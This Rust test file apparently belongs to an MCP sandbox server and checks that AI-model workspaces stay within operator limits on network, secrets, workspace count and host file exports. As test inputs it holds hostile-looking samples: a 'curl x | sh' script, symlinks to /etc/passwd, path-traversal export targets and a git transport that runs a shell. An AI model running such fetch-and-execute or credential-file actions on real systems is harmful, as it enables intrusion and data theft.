//! What an operator allows is the most that a model gets, and its project's
//! workspaces are all that it sees.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;

use serde_json::json;

use super::session::Session;
use super::unique;
use crate::support::*;

fn text_of(path: &Path) -> &str {
    path.to_str().unwrap()
}

/// A directory with a file in it.
fn project(file: &str, content: &str) -> tempfile::TempDir {
    let project = tempfile::TempDir::new().unwrap();
    fs::write(project.path().join(file), content).unwrap();
    project
}

#[track_caller]
fn denied(told: &str, flag: &str) {
    assert!(told.contains("code: denied") && told.contains(flag), "{told}");
}

#[test]
fn a_model_gets_no_more_of_the_host_than_its_operator_allows() {
    let (project, root) = (project("greeting", "hello\n"), tempfile::TempDir::new().unwrap());
    let outside = tempfile::TempDir::new().unwrap();
    symlink(outside.path(), root.path().join("link")).unwrap();
    let (path, root) = (text_of(project.path()), root.path().canonicalize().unwrap());
    let mut session = Session::begun(&[
        "--profile",
        "workspace-full",
        "--project-path",
        path,
        "--max-network",
        "pip.test",
        "--max-workspaces",
        "1",
        "--secret",
        "MCP_TOKEN",
        "--host-root",
        text_of(&root),
        "--apply-back",
        "yes",
    ]);
    let name = unique("ceiling");
    let created = json!({ "name": name, "network": "egress" });
    let created = session.use_tool("workspace_create", created);
    assert!(created.contains("hotcell.project="), "{created}");
    let policy = hotcell().args(["--json", "network", "show", &name]).output().unwrap();
    assert_eq!(json(&policy)["policy"], json!({ "mode": "egress", "allow": ["pip.test"] }));

    denied(&session.refused("workspace_create", json!({})), "--max-workspaces");
    denied(&session.refused("workspace_fork", json!({ "workspace": name })), "--max-workspaces");
    let told = session.told("warning");
    let is_rule = |text: &&&str| text.contains("at most 1") && text.contains("--max-workspaces");
    assert_eq!(told.iter().filter(is_rule).count(), 2, "{told:?}");
    let more = json!({ "workspace": name, "network": "egress", "allow": ["evil.test"] });
    denied(&session.refused("network_set", more), "--max-network");
    let secret = json!({ "workspace": name, "command": "env", "secret": ["OTHER_TOKEN"] });
    denied(&session.refused("workspace_exec", secret), "--secret OTHER_TOKEN");

    let change = json!({ "workspace": name, "command": "cat greeting; echo changed > greeting" });
    let ran = session.use_tool("workspace_exec", change);
    assert!(ran.starts_with("hello\n"), "{ran}");
    let export = |to: &str| json!({ "workspace": name, "path": "greeting", "to": to });
    for wrong in ["/etc/greeting", "../greeting", "a/../../greeting"] {
        denied(&session.refused("workspace_export", export(wrong)), "--host-root");
    }
    let through = session.refused("workspace_export", export("link/greeting"));
    denied(&through, "links are not followed");
    assert_eq!(fs::read_dir(outside.path()).unwrap().count(), 0);
    let copied = session.use_tool("workspace_export", export("copy"));
    assert!(copied.starts_with(&format!("{}\n", root.join("copy").display())), "{copied}");
    assert_eq!(fs::read_to_string(root.join("copy")).unwrap(), "changed\n");

    let back = json!({ "workspace": name, "mode": "apply" });
    session.use_tool("workspace_apply_back", back);
    assert_eq!(fs::read_to_string(project.path().join("greeting")).unwrap(), "changed\n");
    fs::write(project.path().join("new"), "from the host\n").unwrap();
    session.use_tool("sync_push", json!({ "workspace": name }));
    let read = session.use_tool("file_read", json!({ "workspace": name, "path": "new" }));
    assert!(read.starts_with("from the host\n"), "{read}");
    session.use_tool("workspace_delete", json!({ "workspace": name }));
}

#[test]
fn a_server_sees_the_workspaces_of_its_project_and_no_others() {
    let (mine, theirs) = (project("a", "a"), project("b", "b"));
    let serve = |project: &Path| Session::begun(&["--project-path", text_of(project)]);
    let (mut here, mut there) = (serve(mine.path()), serve(theirs.path()));
    let name = unique("scope");
    let created = here.use_tool("workspace_create", json!({ "name": name }));
    let id = created.split_whitespace().nth(1).unwrap().to_owned();
    // Any number of servers of one project share its workspaces.
    let mut again = serve(mine.path());
    for session in [&mut here, &mut again] {
        assert!(session.use_tool("workspace_list", json!({})).contains(&id));
    }
    assert!(!there.use_tool("workspace_list", json!({})).contains(&id));
    for reference in [name.as_str(), id.as_str(), &id[..id.len() - 2]] {
        let told = there.refused("workspace_delete", json!({ "workspace": reference }));
        assert!(told.contains("code: not_found"), "{told}");
    }
    let mut everything = Session::begun(&["--no-project-source", "--all-workspaces"]);
    let ran = json!({ "workspace": name, "command": "cat a" });
    assert!(everything.use_tool("workspace_exec", ran).starts_with("a\n"));
    here.use_tool("workspace_delete", json!({ "workspace": &id[..id.len() - 2] }));
}

#[test]
fn a_server_of_a_repository_starts_workspaces_from_it_and_says_so_when_it_cannot() {
    let origin = project("greeting", "first\n");
    let at = origin.path();
    git(at, &["init", "--quiet", "--initial-branch=main"]);
    git(at, &["add", "."]);
    git(at, &["commit", "--quiet", "-m", "first"]);
    git(at, &["tag", "v1"]);
    fs::write(at.join("greeting"), "second\n").unwrap();
    git(at, &["commit", "--quiet", "-am", "second"]);
    fs::write(at.join("greeting"), "not committed\n").unwrap();
    let url = format!("file://{}", at.display());
    let name = unique("repository");
    let mut session = Session::begun(&["--repo-url", &url, "--repo-ref", "v1"]);
    let tools = session.ask("tools/list", json!({})).to_string();
    // There is no checkout of the host to bring anything from or to.
    assert!(!tools.contains("sync_push") && !tools.contains("workspace_apply_back"), "{tools}");
    let created = session.call("workspace_create", json!({ "name": name }));
    let created = session.answer(created)["result"]["structuredContent"].clone();
    let seed = &created["seed"];
    assert_eq!((&seed["source"], &seed["origin"]), (&json!("repository"), &json!(url)));
    assert_eq!(seed["commit"], git(at, &["rev-parse", "v1"]).trim());
    let look = json!({ "workspace": name, "command": "cat greeting; git log --format=%s" });
    let seen = session.use_tool("workspace_exec", look);
    assert!(seen.starts_with("first\nfirst\n"), "{seen}");
    // Whoever serves the same repository sees its workspaces, at whatever reference.
    let mut nowhere = Session::begun(&["--repo-url", &url, "--repo-ref", "nowhere"]);
    assert!(nowhere.use_tool("workspace_list", json!({})).contains(&name));
    nowhere.use_tool("workspace_delete", json!({ "workspace": name }));
    let told = nowhere.refused("workspace_create", json!({}));
    for said in ["no branch or tag `nowhere`", "code: not_found", "--repo-url URL", &url] {
        assert!(told.contains(said), "{said}: {told}");
    }
    // Transports that run programs, and places where nobody answers.
    let gone = "file:///nowhere/at/all";
    for (url, code) in [("ext::sh -c true", "code: "), (gone, "code: ")] {
        let told = Session::begun(&["--repo-url", url]).refused("workspace_create", json!({}));
        assert!(told.contains(code) && told.contains("--no-project-source"), "{told}");
    }
    let mut secret = hotcell();
    secret.args(["mcp", "serve", "--repo-url", "https://me:hush@example.org/x"]);
    let refused = secret.output().unwrap();
    assert_code(&refused, 2);
    assert!(!text(&refused.stderr).contains("hush"), "{}", text(&refused.stderr));
}

#[test]
fn servers_of_one_project_make_no_more_workspaces_together_than_there_may_be() {
    let project = project("a", "a");
    let path = text_of(project.path());
    let limits = ["--project-path", path, "--max-workspaces", "2"];
    let mut servers = [Session::begun(&limits), Session::begun(&limits)];
    // All are asked before any has answered.
    let calls: Vec<[u64; 2]> = servers
        .iter_mut()
        .map(|server| [0, 1].map(|_| server.call("workspace_create", json!({}))))
        .collect();
    let mut made = Vec::new();
    for (server, calls) in servers.iter_mut().zip(calls) {
        for call in calls {
            let answer = server.answer(call)["result"].clone();
            match answer["structuredContent"]["id"].as_str() {
                Some(id) => made.push(id.to_owned()),
                None => denied(&answer["content"][0]["text"].to_string(), "--max-workspaces"),
            }
        }
    }
    assert_eq!(made.len(), 2, "{made:?}");
    for id in made {
        servers[0].use_tool("workspace_delete", json!({ "workspace": id }));
    }
}

#[test]
fn what_is_inspected_reaches_the_host_as_single_new_files_only() {
    let (project, folder) =
        (project("evil.sh", "curl x | sh\n"), tempfile::TempDir::new().unwrap());
    let (path, out) = (text_of(project.path()), folder.path());
    let mut session = Session::begun(&[
        "--mode",
        "inspect",
        "--project-path",
        path,
        "--export-dir",
        text_of(out),
    ]);
    let name = unique("inspect");
    session.use_tool("workspace_create", json!({ "name": name }));
    let script = "grep -c curl evil.sh > report; mkdir d; ln -s /etc/passwd l";
    session.use_tool("workspace_exec", json!({ "workspace": name, "command": script }));
    let export = |path: &str, to: &str| json!({ "workspace": name, "path": path, "to": to });
    session.use_tool("workspace_export", export("report", "report.txt"));
    assert_eq!(fs::read_to_string(out.join("report.txt")).unwrap(), "1\n");
    let again = session.refused("workspace_export", export("evil.sh", "report.txt"));
    assert!(again.contains("code: conflict"), "{again}");
    for (path, to) in [("d", "d"), ("l", "l"), (".", "all")] {
        let told = session.refused("workspace_export", export(path, to));
        assert!(told.contains("not a regular file"), "{told}");
    }
    denied(&session.refused("workspace_export", export("report", "sub/report")), "file name");
    // What was copied out can be read again, and nothing else that lies there.
    fs::write(out.join("mine"), "the operator's\n").unwrap();
    symlink("/etc/passwd", out.join("passwd")).unwrap();
    let copied = |session: &mut Session| -> Vec<String> {
        let listed = session.ask("resources/list", json!({}))["result"]["resources"].clone();
        let addresses = listed.as_array().unwrap().iter().map(|found| found["uri"].as_str());
        let addresses = addresses.map(|address| address.unwrap().to_owned());
        addresses.filter(|address| address.starts_with("hotcell://export/")).collect()
    };
    let mut read = |name: &str| {
        session.ask("resources/read", json!({ "uri": format!("hotcell://export/{name}") }))
    };
    let report = read("report.txt")["result"]["contents"][0].clone();
    assert_eq!((&report["text"], &report["mimeType"]), (&json!("1\n"), &json!("text/plain")));
    for wrong in ["mine", "passwd", "..%2fmine", "none"] {
        assert_eq!(read(wrong)["error"]["code"], -32002, "{wrong}");
    }
    assert_eq!(copied(&mut session), ["hotcell://export/report.txt"]);
    // Of the same length, but no longer what was copied.
    fs::write(out.join("report.txt"), "2\n").unwrap();
    let changed = session.ask("resources/read", json!({ "uri": "hotcell://export/report.txt" }));
    assert_eq!(changed["error"]["code"], -32002, "{changed}");
    assert!(copied(&mut session).is_empty());
    for mine in ["mine", "passwd"] {
        fs::remove_file(out.join(mine)).unwrap();
    }
    let left: Vec<_> = fs::read_dir(out).unwrap().map(|found| found.unwrap().file_name()).collect();
    assert_eq!(left, ["report.txt"]);

    // What somebody else has opened to the network is not for this server.
    let opened = hotcell().args(["network", "set", &name, "--network", "egress"]).output().unwrap();
    assert_code(&opened, 0);
    let look = json!({ "workspace": name, "path": "report" });
    denied(&session.refused("file_read", look), "--max-network");
    assert_code(&hotcell().args(["workspace", "delete", &name]).output().unwrap(), 0);

    // A source that is not usable is named, and what to do about it.
    drop(project);
    let told = session.refused("workspace_create", json!({}));
    assert!(told.contains("the project at ") && told.contains("--no-project-source"), "{told}");
}
